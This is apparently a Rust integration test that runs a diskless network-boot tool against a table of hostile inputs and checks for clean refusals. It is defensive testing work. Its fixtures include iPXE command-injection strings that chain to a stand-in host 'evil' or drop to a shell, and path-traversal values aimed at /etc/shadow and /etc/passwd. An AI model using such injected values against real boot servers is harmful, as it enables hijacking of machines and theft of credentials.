//! The real `diskless` binary against a table of hostile inputs, by class (issue 14): each must
//! end within a minute with exit code 1 (not a panic, not a signal), an `error:` message that
//! names the field, file or path at fault, no raw control characters, and nothing left behind
//! (no build output, the boot server byte for byte as it was). The summary table it prints
//! (class → inputs → clear errors) is the one the issue asks for.
//!
//! Why one file of about 800 lines: it is one table, [`cases`], of a few lines per hostile
//! input, judged by one test so the summary covers every class.

mod common;
// The archive fixtures of the oci crate's own tests, shared rather than copied.
#[path = "../../oci/tests/oci_fixtures/mod.rs"]
mod oci_fixtures;

use common::{diskless, snapshot, Lab, INVENTORY};
use oci_fixtures::*;
use serde_json::json;
use std::collections::BTreeMap;
use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, Instant};

/// A run that has not ended by then counts as a hang.
const HANG: Duration = Duration::from_secs(60);

struct Case {
    class: &'static str,
    what: String,
    args: Vec<OsString>,
    /// What the message must contain (the field, file or path, or the fault).
    needles: Vec<String>,
    /// Paths that must not exist afterwards.
    absent: Vec<PathBuf>,
    /// Directories that must be unchanged.
    unchanged: Vec<PathBuf>,
}

/// What one run did wrong, if anything.
fn run(case: &Case) -> Result<(), String> {
    let before: Vec<_> = case.unchanged.iter().map(|d| snapshot(d)).collect();
    let mut child = diskless()
        .args(&case.args)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let t0 = Instant::now();
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        if t0.elapsed() > HANG {
            child.kill().unwrap();
            child.wait().unwrap();
            return Err(format!("hung (killed after {HANG:?})"));
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    let mut faults = Vec::new();
    match status.code() {
        // 1: refused; 2: a usage error clap reports; 3: what `verify` says of the damage it
        // found (a failed check, not bad input).
        Some(1) | Some(2) => {}
        Some(3) if case.args.first().is_some_and(|a| a == "verify") => {}
        Some(0) => faults.push("accepted (exit 0)".to_string()),
        Some(101) => faults.push("panicked (exit 101)".to_string()),
        other => faults.push(format!("exit {other:?}")),
    }
    if stderr.contains("panicked") {
        faults.push("panic message".into());
    }
    if !stderr.contains("error: ") {
        faults.push("no `error:` line".into());
    }
    for n in &case.needles {
        if !stderr.contains(n.as_str()) {
            faults.push(format!("message lacks {n:?}"));
        }
    }
    if let Some(c) = stderr
        .chars()
        .find(|c| c.is_control() && *c != '\n' && *c != '\t')
    {
        faults.push(format!("raw control character {c:?} in the message"));
    }
    for p in &case.absent {
        if p.exists() {
            faults.push(format!("left {}", p.display()));
        }
    }
    for (d, b) in case.unchanged.iter().zip(before) {
        if snapshot(d) != b {
            faults.push(format!("changed {}", d.display()));
        }
    }
    if faults.is_empty() {
        Ok(())
    } else {
        Err(format!("{}\n    stderr: {stderr}", faults.join("; ")))
    }
}

fn os(args: &[&dyn AsRef<std::ffi::OsStr>]) -> Vec<OsString> {
    args.iter().map(|a| a.as_ref().to_owned()).collect()
}

/// Builds the cases in a lab: plans, archives, inventories and directories on disk.
struct Cases<'a> {
    lab: &'a Lab,
    n: usize,
    list: Vec<Case>,
    /// A good build output and a published boot server to aim at.
    out: PathBuf,
    dest: PathBuf,
}

impl Cases<'_> {
    fn file(&mut self, name: &str, bytes: &[u8]) -> PathBuf {
        self.n += 1;
        let p = self.lab.p(&format!("case{}-{name}", self.n));
        std::fs::write(&p, bytes).unwrap();
        p
    }

    fn plan_value(&self) -> serde_json::Value {
        json!({
            "version": 1, "name": "worker", "description": "hostile",
            "kernel": {"image": self.lab.p("kernel"), "cmdline": "console=ttyS0"},
            "compression": {"algorithm": "gzip"},
            "components": [{"name": "base", "generated": [{"dest": "/init", "contents": "x", "mode": "0755"}]}],
        })
    }

    /// `build --plan` of `plan`; the output must not appear.
    fn build(&mut self, class: &'static str, what: &str, plan: &[u8], needles: &[&str]) {
        let path = self.file("plan.json", plan);
        let out = self.lab.p(&format!("out-case{}", self.n));
        self.list.push(Case {
            class,
            what: what.into(),
            args: os(&[&"build", &"--no-cache", &"--plan", &path, &"--out", &out]),
            needles: needles.iter().map(|s| s.to_string()).collect(),
            absent: vec![out],
            unchanged: vec![],
        });
    }

    /// A plan edited by `edit`.
    fn plan(
        &mut self,
        class: &'static str,
        what: &str,
        edit: impl FnOnce(&mut serde_json::Value),
        needles: &[&str],
    ) {
        let mut p = self.plan_value();
        edit(&mut p);
        self.build(class, what, p.to_string().as_bytes(), needles);
    }

    /// A plan preloading `archive` under `reference`.
    fn image(
        &mut self,
        class: &'static str,
        what: &str,
        archive: &Path,
        reference: &str,
        needles: &[&str],
    ) {
        let archive = archive.to_owned();
        let reference = reference.to_owned();
        self.plan(
            class,
            what,
            move |p| {
                p["images"] = json!([{"name": "img", "archive": archive, "refs": [reference]}]);
                p["node"] = json!({"services": [{"name": "containerd", "command": ["/usr/bin/containerd"], "role": "container-runtime"}]});
            },
            needles,
        );
    }

    /// An OCI archive with one layer.
    fn layer_archive(&mut self, l: &Layer) -> PathBuf {
        let m = oci_members(&[OciImage {
            layers: vec![l],
            arch: "amd64",
            name: None,
        }]);
        let bytes = tar_bytes(&m);
        self.file("img.tar", &bytes)
    }

    /// `publish OUT --to DEST [--inventory INV]`; DEST must stay as it was.
    fn publish(
        &mut self,
        class: &'static str,
        what: &str,
        out: &Path,
        dest: &Path,
        inventory: Option<&Path>,
        needles: &[&str],
    ) {
        let mut args = os(&[&"publish", &out, &"--to", &dest]);
        if let Some(i) = inventory {
            args.extend(os(&[&"--inventory", &i]));
        }
        let (absent, unchanged) = if dest.exists() {
            (vec![], vec![dest.to_owned()])
        } else {
            (vec![dest.to_owned()], vec![])
        };
        self.list.push(Case {
            class,
            what: what.into(),
            args,
            needles: needles.iter().map(|s| s.to_string()).collect(),
            absent,
            unchanged,
        });
    }

    fn inventory(&mut self, class: &'static str, what: &str, text: &str, needles: &[&str]) {
        let inv = self.file("inventory.toml", text.as_bytes());
        let (out, dest) = (self.out.clone(), self.dest.clone());
        self.publish(class, what, &out, &dest, Some(&inv), needles);
    }

    fn command(
        &mut self,
        class: &'static str,
        what: &str,
        args: Vec<OsString>,
        needles: &[&str],
        absent: Vec<PathBuf>,
    ) {
        let unchanged = vec![self.dest.clone()];
        self.list.push(Case {
            class,
            what: what.into(),
            args,
            needles: needles.iter().map(|s| s.to_string()).collect(),
            absent,
            unchanged,
        });
    }
}

const INJECTION: &str = "1 iPXE injection";
const REUSE: &str = "2 bytes reused unverified";
const TREE: &str = "3 trees the kernel drops";
const NODE: &str = "4 builds that fail only on the node";
const HANG_CLASS: &str = "5 hangs";
const WEAK: &str = "6 weak answers";

fn cases(lab: &Lab) -> Vec<Case> {
    let out = lab.build("out", "worker", "1");
    let dest = lab.p("srv");
    lab.publish(&out, &dest, Some(&lab.inventory(INVENTORY)));
    std::fs::write(lab.p("text-kernel"), "this is not a kernel\n".repeat(100)).unwrap();
    let mut c = Cases {
        lab,
        n: 0,
        list: Vec::new(),
        out: out.clone(),
        dest: dest.clone(),
    };

    // 1. iPXE injection: plan strings, --base-url, inventory kernel args, renamed indexes.
    for s in [
        "x\nchain http://evil/",
        "quiet || shell",
        "a ; chain http://evil/",
        "${net0/ip}",
        "a#b",
    ] {
        c.plan(
            INJECTION,
            &format!("description {s:?}"),
            |p| p["description"] = json!(s),
            &["description", "iPXE"],
        );
        c.plan(
            INJECTION,
            &format!("cmdline {s:?}"),
            |p| p["kernel"]["cmdline"] = json!(s),
            &["kernel.cmdline", "iPXE"],
        );
        let quoted = toml::Value::String(s.to_string()).to_string();
        c.inventory(
            INJECTION,
            &format!("kernel_args {s:?}"),
            &INVENTORY.replace(
                "kernel_args = \"diskless.debug\"",
                &format!("kernel_args = {quoted}"),
            ),
            &["hosts[0].kernel_args"],
        );
    }
    for url in [
        "http://boot/\nshell",
        "http://boot/ || shell ;",
        "http://boot/#x",
    ] {
        let plan = c.file("plan.json", c.plan_value().to_string().as_bytes());
        let o = lab.p(&format!("out-url{}", c.n));
        c.command(
            INJECTION,
            &format!("--base-url {url:?}"),
            os(&[
                &"build",
                &"--no-cache",
                &"--plan",
                &plan,
                &"--out",
                &o,
                &"--base-url",
                &url,
            ]),
            &["--base-url"],
            vec![o],
        );
    }
    let renamed = lab.p("renamed");
    common::copy_tree(&out, &renamed);
    std::fs::rename(
        renamed.join("worker.json"),
        renamed.join("x ; shell ; chain evil.json"),
    )
    .unwrap();
    c.publish(
        INJECTION,
        "index renamed to `x ; shell ; chain evil.json`",
        &renamed,
        &dest,
        None,
        &["holds the index of image \"worker\""],
    );

    // 2. Bytes reused without verification: damaged build outputs are refused by verify and
    //    publish, corrupt blobs by the build.
    for (what, damage) in [
        ("object overwritten, same size", 0),
        ("object truncated", 1),
        ("index size lies", 2),
    ] {
        let bad = lab.p(&format!("damaged{damage}"));
        common::copy_tree(&out, &bad);
        let index: serde_json::Value =
            serde_json::from_slice(&std::fs::read(bad.join("worker.json")).unwrap()).unwrap();
        let sha = index["segments"][0]["sha256"].as_str().unwrap().to_owned();
        let obj = bad.join("objects").join(&sha);
        match damage {
            0 => {
                let len = std::fs::metadata(&obj).unwrap().len() as usize;
                std::fs::write(&obj, vec![b'x'; len]).unwrap();
            }
            1 => std::fs::write(&obj, b"").unwrap(),
            _ => {
                let mut i = index.clone();
                i["segments"][0]["size"] = json!(1);
                std::fs::write(bad.join("worker.json"), i.to_string()).unwrap();
            }
        }
        c.command(
            REUSE,
            &format!("verify: {what}"),
            os(&[&"verify", &bad]),
            &["problem"],
            vec![],
        );
        if damage == 2 {
            c.publish(
                REUSE,
                &format!("publish: {what}"),
                &bad,
                &dest,
                None,
                &["the index says"],
            );
        }
    }
    let l = Layer::new(&[("f", b"data")], Z::Gzip);
    let mut m = oci_members(&[OciImage {
        layers: vec![&l],
        arch: "amd64",
        name: None,
    }]);
    for x in m.iter_mut() {
        if let Member::File(n, data) = x {
            if *n == format!("blobs/sha256/{}", sha(&l.stored)) {
                let last = data.len() - 1;
                data[last] ^= 1;
            }
        }
    }
    let a = c.file("corrupt.tar", &tar_bytes(&m));
    c.image(
        REUSE,
        "layer blob with a flipped bit",
        &a,
        "docker.io/library/t:1",
        &["corrupt"],
    );

    // 3. Trees the kernel silently drops.
    for (what, generated, needle) in [
        (
            "file and parent",
            json!([{"dest": "/etc/x", "contents": "a"}, {"dest": "/etc/x/y", "contents": "b"}]),
            "as the parent of",
        ),
        (
            "file /init and /init/x",
            json!([{"dest": "/init/x", "contents": "b"}]),
            "as the parent of",
        ),
        (
            "component over NAME_MAX",
            json!([{"dest": format!("/etc/{}", "n".repeat(256)), "contents": "b"}]),
            "at most 255",
        ),
        (
            "path over PATH_MAX",
            json!([{"dest": format!("/{}", vec!["d".repeat(200); 21].join("/")), "contents": "b"}]),
            "at most 4095",
        ),
    ] {
        c.plan(
            TREE,
            what,
            |p| {
                p["components"]
                    .as_array_mut()
                    .unwrap()
                    .push(json!({"name": "extra", "generated": generated}))
            },
            &[needle],
        );
    }
    c.plan(
        TREE,
        "/etc file in one component, /etc/passwd in another",
        |p| {
            let comps = p["components"].as_array_mut().unwrap();
            comps.push(json!({"name": "a", "generated": [{"dest": "/etc", "contents": "file"}]}));
            comps.push(
                json!({"name": "b", "generated": [{"dest": "/etc/passwd", "contents": "x"}]}),
            );
        },
        &["/etc"],
    );

    // 4. Builds that could only fail on the node.
    let text_kernel = lab.p("text-kernel");
    c.plan(
        NODE,
        "text file as kernel.image",
        |p| p["kernel"]["image"] = json!(text_kernel),
        &["kernel.image"],
    );
    let mut zip = b"PK\x03\x04\x14\x00\x00\x00".to_vec();
    zip.resize(2048, 0x41);
    let plain = Layer::new(&[("f", b"d")], Z::None).tar;
    for (what, tar, stored, declared, needle) in [
        (
            "zip as a layer",
            zip.clone(),
            zip.clone(),
            None,
            "tar archive",
        ),
        (
            "unknown layer media type",
            plain.clone(),
            plain.clone(),
            Some("application/zip"),
            "not one containerd unpacks",
        ),
        (
            "+gzip on a plain tar",
            plain.clone(),
            plain.clone(),
            Some("application/vnd.oci.image.layer.v1.tar+gzip"),
            "media type says gzip but its bytes are uncompressed",
        ),
        (
            "zstd declared, gzip bytes",
            plain.clone(),
            compress(&plain, Z::Gzip),
            Some("application/vnd.oci.image.layer.v1.tar+zstd"),
            "media type says zstd but its bytes are gzip",
        ),
        (
            "bzip2 media type",
            plain.clone(),
            plain.clone(),
            Some("application/vnd.oci.image.layer.v1.tar+bzip2"),
            "not one containerd unpacks",
        ),
    ] {
        let l = Layer {
            tar,
            stored,
            z: Z::None,
            declared,
        };
        let a = c.layer_archive(&l);
        c.image(
            NODE,
            what,
            &a,
            "docker.io/library/t:1",
            &["layers[0]", needle],
        );
    }
    let good = c.layer_archive(&Layer::new(&[("f", b"d")], Z::Gzip));
    let tag200 = format!("docker.io/library/t:{}", "a".repeat(200));
    for (r, needle) in [
        ("docker.io/library/busybox@sha256:bad", "64 lowercase hex"),
        ("docker.io/library/busybox:t#x", "not a valid tag"),
        ("docker.io/library/busybox:-x", "not a valid tag"),
        (tag200.as_str(), "not a valid tag"),
        ("docker.io/Library/busybox:1", "lowercase"),
        ("docker.io/library/busybox", "no tag"),
    ] {
        c.image(
            NODE,
            &format!("plan ref {}", if r.len() > 60 { "200-char tag" } else { r }),
            &good,
            r,
            &["images[0].refs[0]", needle],
        );
    }
    let root = lab.p("oci-root");
    std::fs::create_dir_all(&root).unwrap();
    for (flag, value, needle) in [
        (
            "--ref",
            "docker.io/library/t@sha256:bad",
            "64 lowercase hex",
        ),
        ("--ref", "docker.io/library/t:t#x", "not a valid tag"),
        ("--ref", "t:-x", "not a valid tag"),
        ("--env", "NOEQUALS", "KEY=VALUE"),
    ] {
        let o = lab.p(&format!("oci-out{}.tar", c.list.len()));
        let mut args = os(&[&"oci", &"build", &"--from", &root, &"--out", &o]);
        if flag == "--ref" {
            args.extend(os(&[&"--ref", &value]));
        } else {
            args.extend(os(&[&"--ref", &"docker.io/library/t:1", &"--env", &value]));
        }
        c.command(
            NODE,
            &format!("oci build {flag} {value:?}"),
            args,
            &[flag, needle],
            vec![o],
        );
    }
    c.plan(
        NODE,
        "service with an empty command",
        |p| p["node"] = json!({"services": [{"name": "s", "command": []}]}),
        &["node.services"],
    );
    c.plan(
        NODE,
        "static address 999.1.1.1/99",
        |p| p["node"] = json!({"network": {"mode": "static", "address": "999.1.1.1/99"}}),
        &["node.network"],
    );
    c.inventory(
        NODE,
        "api_server with a newline",
        &INVENTORY.replace(
            "https://10.0.2.100:6443",
            "https://10.0.2.100:6443\\nserver: x",
        ),
        &["join.api_server"],
    );
    c.inventory(
        NODE,
        "api_server not a URL",
        &INVENTORY.replace("https://10.0.2.100:6443", "not a url"),
        &["join.api_server"],
    );
    c.inventory(
        NODE,
        "menu_timeout over u32 ms",
        &INVENTORY.replace("menu_timeout = 3", "menu_timeout = 4294968"),
        &["menu_timeout"],
    );

    // 5. Hangs: FIFOs wherever a file is read.
    let fifo = lab.p("fifo");
    let cpath = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
    // SAFETY: `cpath` is a valid NUL-terminated path that outlives the call.
    assert_eq!(unsafe { libc::mkfifo(cpath.as_ptr(), 0o644) }, 0);
    c.image(
        HANG_CLASS,
        "FIFO as image archive",
        &fifo,
        "docker.io/library/t:1",
        &["not a regular file"],
    );
    let o = lab.p("out-fifo-plan");
    c.command(
        HANG_CLASS,
        "FIFO as plan",
        os(&[&"build", &"--plan", &fifo, &"--out", &o]),
        &["not a regular file"],
        vec![o],
    );
    let (out2, dest2) = (out.clone(), dest.clone());
    c.publish(
        HANG_CLASS,
        "FIFO as inventory",
        &out2,
        &dest2,
        Some(&fifo),
        &["inventory", "not a regular file"],
    );
    c.plan(
        HANG_CLASS,
        "FIFO as kernel.image",
        |p| p["kernel"]["image"] = json!(fifo),
        &["kernel.image"],
    );
    c.plan(
        HANG_CLASS,
        "FIFO as a component file",
        |p| {
            p["components"]
                .as_array_mut()
                .unwrap()
                .push(json!({"name": "f", "files": [{"source": fifo, "dest": "/x"}]}))
        },
        &["not"],
    );

    // 6. Weak answers.
    for v in ["-1", "1.5", "99999999999999999999", "\"1\""] {
        let text = format!(r#"{{"version":{v},"name":"worker"}}"#);
        c.build(
            WEAK,
            &format!("plan version {v}"),
            text.as_bytes(),
            &["version"],
        );
    }
    for mac in [
        "ff:ff:ff:ff:ff:ff",
        "01:00:5e:00:00:fb",
        "00:00:00:00:00:00",
    ] {
        c.inventory(
            WEAK,
            &format!("MAC {mac}"),
            &INVENTORY.replace("52:54:00:12:34:56", mac),
            &["inventory", mac],
        );
    }
    let foreign = lab.p("foreign");
    std::fs::create_dir_all(&foreign).unwrap();
    std::fs::write(foreign.join("boot.ipxe"), "#!ipxe\nchain http://mine/\n").unwrap();
    c.publish(
        WEAK,
        "publish into a directory with a hand-written boot.ipxe",
        &out2,
        &foreign,
        None,
        &["not a diskless boot server", "boot.ipxe"],
    );
    let missing = lab.p("no/such/dir");
    c.command(
        WEAK,
        "rollback --to a missing directory",
        os(&[&"rollback", &"--to", &missing, &"worker"]),
        &["does not exist"],
        vec![missing.clone()],
    );
    c.command(
        WEAK,
        "gc --to a missing directory",
        os(&[&"gc", &"--to", &missing]),
        &["does not exist"],
        vec![missing.clone()],
    );
    let esc = lab.p("esc\u{1b}[2J\u{7}dir");
    c.command(
        WEAK,
        "escape sequences in a path",
        os(&[&"verify", &esc]),
        &["\\u{1b}[2J\\u{7}"],
        vec![],
    );
    let raw = c.file("raw.toml", b"default_image = \"a\x1b[31m\x07\"\n");
    c.publish(
        WEAK,
        "escape sequences in an inventory",
        &out2,
        &dest2,
        Some(&raw),
        &["\\u{1b}"],
    );
    for (what, members, needle) in [
        (
            "hard link out of a layer",
            vec![
                Member::File("a".into(), b"x".to_vec()),
                Member::HardLink("b".into(), "../../etc/shadow".into()),
            ],
            "hard link",
        ),
        (
            "hard link to an absolute path",
            vec![Member::HardLink("b".into(), "/etc/shadow".into())],
            "absolute",
        ),
        (
            "whiteout `.wh..`",
            vec![Member::File("etc/.wh..".into(), Vec::new())],
            "whiteout",
        ),
        (
            "`..` in a layer entry",
            vec![Member::File("../x".into(), Vec::new())],
            "traversal",
        ),
        (
            "layer member claiming 65 GiB",
            vec![Member::Claims("big".into(), 65 << 30)],
            "64 GiB",
        ),
    ] {
        let a = c.layer_archive(&Layer::of(&members, Z::None));
        c.image(
            WEAK,
            what,
            &a,
            "docker.io/library/t:1",
            &["layers[0]", needle],
        );
    }
    let (mut m, _) = {
        let l = Layer::new(&[("f", b"data")], Z::Gzip);
        (
            oci_members(&[OciImage {
                layers: vec![&l],
                arch: "amd64",
                name: None,
            }]),
            (),
        )
    };
    m.insert(0, Member::Claims("huge".into(), 70 << 30));
    let a = c.file("huge.tar", &tar_bytes(&m));
    c.image(
        WEAK,
        "archive member claiming 70 GiB",
        &a,
        "docker.io/library/t:1",
        &["64 GiB", "huge.tar"],
    );
    c.image(
        WEAK,
        "short ref with a bad tag (no invalid suggestion)",
        &good,
        "busybox:t#x",
        &["not a valid tag"],
    );
    let traversal = lab.p("traversal");
    common::copy_tree(&out, &traversal);
    let mut i: serde_json::Value =
        serde_json::from_slice(&std::fs::read(traversal.join("worker.json")).unwrap()).unwrap();
    i["kernel"]["sha256"] = json!("../../../../../../etc/passwd");
    std::fs::write(traversal.join("worker.json"), i.to_string()).unwrap();
    c.command(
        WEAK,
        "inspect an index whose digest is a path",
        os(&[&"inspect", &traversal]),
        &["sha256"],
        vec![],
    );
    c.list
}

#[test]
fn hostile_inputs_get_clear_errors_and_leave_nothing() {
    let lab = Lab::new();
    let cases = cases(&lab);
    let mut table: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
    let mut failures = Vec::new();
    for case in &cases {
        let r = run(case);
        let row = table.entry(case.class).or_default();
        row.0 += 1;
        match r {
            Ok(()) => row.1 += 1,
            Err(e) => failures.push(format!("[{}] {}: {e}", case.class, case.what)),
        }
    }
    println!("| class | inputs | clear errors, nothing left |");
    println!("|---|---|---|");
    for (class, (n, ok)) in &table {
        println!("| {class} | {n} | {ok} |");
    }
    let total: usize = table.values().map(|r| r.0).sum();
    let ok: usize = table.values().map(|r| r.1).sum();
    println!("| all | {total} | {ok} |");
    assert!(
        failures.is_empty(),
        "{} of {total} failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}
